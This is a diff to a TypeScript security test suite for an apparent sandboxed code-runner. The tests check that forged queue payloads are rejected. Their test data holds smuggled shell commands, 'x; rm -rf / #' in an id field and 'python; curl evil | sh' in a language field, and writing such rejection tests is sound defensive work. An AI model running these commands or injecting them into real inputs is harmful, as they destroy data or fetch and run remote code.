@@ -8,6 +8,7 @@ import { randomUUID } from 'node:crypto';
 import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
+import { payload } from '../helpers.js';
 import { assertHostClean, startHostile, type Hostile } from './harness.js';
 
 let hostile: Hostile;
@@ -66,7 +67,7 @@ test.serial('links planted at the source, the binary, the output and folders nev
 });
 
 test.serial('forged payloads put straight on the queue are rejected, never run and never retried', async (t) => {
-  const valid = { id: randomUUID(), language: 'python', code: 'print(1)', testCases: [], stdin: '', limits: {}, submittedAt: new Date().toISOString() };
+  const valid = payload({ language: 'python', code: 'print(1)' });
   const forgeries: Array<[string, unknown, RegExp]> = [
     ['shell in the id', { ...valid, id: 'x; rm -rf / #' }, /id/],
     ['shell in the language', { ...valid, language: 'python; curl evil | sh' }, /language/],
